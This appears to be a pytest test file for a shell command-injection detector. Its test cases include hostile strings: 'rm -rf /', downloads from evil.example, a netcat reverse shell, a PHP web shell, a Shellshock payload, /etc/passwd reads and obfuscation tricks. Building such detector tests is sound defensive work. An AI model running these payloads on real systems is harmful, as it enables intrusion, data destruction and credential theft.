"""`shell`: operators outside quotes for commands, an allowlist, and high-confidence untyped signals."""

from __future__ import annotations

import pytest
from _analyzer_helpers import kinds_of, scan_one

from checkrein.policy.analyzers.shell import shell_operators


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("ls; rm -rf /", "chain"),
        ("ls && curl http://x", "and"),
        ("false || id", "or"),
        ("cat notes | sh", "pipe"),
        ("sleep 1 & id", "background"),
        ("echo x > /etc/cron.d/x", "redirect"),
        ("sort < /etc/passwd", "redirect"),
        ("echo $(id)", "substitution"),
        ("echo `id`", "substitution"),
        ('echo "$(id)"', "substitution"),
        ("diff <(ls a) <(ls b)", "substitution"),
        ("ls\nid", "newline"),
        ("cat${IFS}/etc/passwd", "ifs"),
        ("ls%0aid", "newline"),
        ("ls ';", "unbalanced_quote"),
    ],
)
def test_operators_in_command_arguments_are_reported(command: str, kind: str) -> None:
    assert kind in kinds_of(scan_one(command, "command"), "shell")


@pytest.mark.parametrize("command", ["ls -la", "grep 'a|b;c' notes.txt", "git log --oneline", "echo 'x > y'", "docker ps"])
def test_quoted_operators_and_plain_commands_are_clean(command: str) -> None:
    assert scan_one(command, "command") == []


def test_allowlist_limits_the_first_word() -> None:
    allowed = ("ls", "git")
    assert scan_one("git status", "command", commands=allowed) == []
    assert "not_allowed" in kinds_of(scan_one("rm -rf /", "command", commands=allowed))
    assert "not_allowed" in kinds_of(scan_one("/bin/ls", "command", commands=allowed))
    assert "unparsable" in kinds_of(scan_one("ls 'unterminated", "command", commands=allowed))


def test_shell_operators_reports_positions_in_order() -> None:
    assert shell_operators("a; b | c") == [("chain", 1), ("pipe", 5)]
    assert shell_operators("echo '$(x)'") == []
    assert shell_operators("x 2>&1") == [("redirect", 3)]


@pytest.mark.parametrize(
    "text",
    [
        "file.txt; rm -rf /",
        "x && wget http://evil.example/a.sh",
        "name$(curl evil.example)",
        "a | sh",
        "`whoami`",
        "q=1; cat /etc/passwd",
        "x & ping -c 10 127.0.0.1",
        "x; sleep 5",
        "& net user hacker pw /add",
        "a;id",
        "<?php system($_GET['c']); ?>",
        "{${phpinfo()}}",
        "() { :;}; /bin/eject",
        "nc -e /bin/sh 10.0.0.1 4444",
        "foo${IFS}bar",
        "; ",
    ],
)
def test_untyped_strings_catch_high_confidence_injection(text: str) -> None:
    assert kinds_of(scan_one(text), "shell")


@pytest.mark.parametrize(
    "text",
    [
        "Tom & Jerry; cat lovers unite",
        "PG&E bill",
        "| Name | Age |\n|---|---|\n| Ann | 3 |",
        "Call me; ID required at the door",
        "Use `git status` to check",
        "Price is $(5) today",
        "a > b is true",
        "ls",
        "echo",
        "Rock & roll; type it loud",
        "| Pos | Driver | Time / behind |\n|---|---|---|\n| 1 | Ann | +0.5 |",
        "| Year | Team | NC |",
        "Visit Shí Lín; Shí is a name",
    ],
)
def test_untyped_prose_is_clean(text: str) -> None:
    assert kinds_of(scan_one(text), "shell") == set()


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("cat <(id)", "substitution"),
        ("echo $'\\x72\\x6d' -rf /", "ansi_c_quote"),
        ("$a$b /etc/passwd", "variable"),
        ('echo "$HOME"', "variable"),
        ("sleep 5 &", "background"),
        ("c''at /etc/passwd", "obfuscated_command"),
        ("w\\hoami", "obfuscated_command"),
        ("/???/c?t /etc/passwd", "obfuscated_command"),
        ("{cat,/etc/passwd}", "obfuscated_command"),
        ("LD_PRELOAD=/tmp/x.so ls", "exec_environment"),
        ("find . -delete", "dangerous_option"),
    ],
)
def test_command_injection_without_a_separator_is_reported(command: str, kind: str) -> None:
    assert kind in kinds_of(scan_one(command, "command"), "shell")


@pytest.mark.parametrize("command", ["'ls' -la", "echo.>C:\\testing.txt", "dir C:\\Users", "git log --format='%h %s'"])
def test_quoted_program_names_and_windows_paths_are_not_obfuscation(command: str) -> None:
    assert "obfuscated_command" not in kinds_of(scan_one(command, "command"), "shell")
